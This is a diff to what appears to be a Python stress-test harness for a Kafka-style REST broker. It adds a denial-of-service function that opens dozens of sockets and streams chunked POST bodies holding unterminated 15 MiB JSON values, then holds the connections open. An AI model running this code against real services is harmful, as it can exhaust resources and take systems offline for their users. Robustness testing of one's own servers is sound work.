@@ -11,7 +11,7 @@ import random
 import socket
 import time
 from collections.abc import Callable, Iterable, Mapping
-from contextlib import ExitStack
+from contextlib import ExitStack, suppress
 from typing import Any
 
 import httpx
@@ -136,6 +136,25 @@ def held(data: bytes, scale: float, broker: Broker) -> str:
     return ""
 
 
+def unfinished_objects(scale: float, broker: Broker) -> str:
+    """Open streams of v3 records, each with an object of 15 MiB that does not end."""
+    clusters = httpx.get(f"{broker.base_url}/v3/clusters", timeout=TIMEOUT_S).json()["data"]
+    path = f"/v3/clusters/{clusters[0]['cluster_id']}/topics/{VICTIM}/records"
+    head = f"POST {path} HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n"
+    begin = b'{"value":{"type":"STRING","data":"'
+    piece = b"%x\r\n%b\r\n" % (MIB, b"x" * MIB)
+    with ExitStack() as stack:
+        for _ in range(scaled(60, scale, 2)):
+            connection = socket.create_connection((broker.address, broker.port), TIMEOUT_S)
+            stack.enter_context(connection)
+            connection.sendall(head.encode() + b"%x\r\n%b\r\n" % (len(begin), begin))
+            with suppress(OSError):  # the broker has perhaps refused the object
+                for _ in range(15):
+                    connection.sendall(piece)
+        time.sleep(HOLD_S * scale)
+    return ""
+
+
 def woken(accept: str, query: str, scale: float, broker: Broker) -> str:
     """Open readers that wait for the same records, then produce these records."""
     head = f"GET /topics/{VICTIM}/partitions/0/records?offset=latest&{query} HTTP/1.1\r\n"
@@ -159,6 +178,7 @@ def attacks(scale: float) -> Attacks:
         ),
         "bodies with Content-Encoding (zstd)": functools.partial(coded, "zstd", zstd, scale),
         "waiting bodies with Content-Encoding": functools.partial(waiting_coded, scale),
+        "unfinished objects of v3 streams": functools.partial(unfinished_objects, scale),
         "records without bytes": functools.partial(empty_records, scale),
         "many partitions": functools.partial(many_partitions, scale),
         "followers of one partition": functools.partial(woken, "text/event-stream", "", scale),
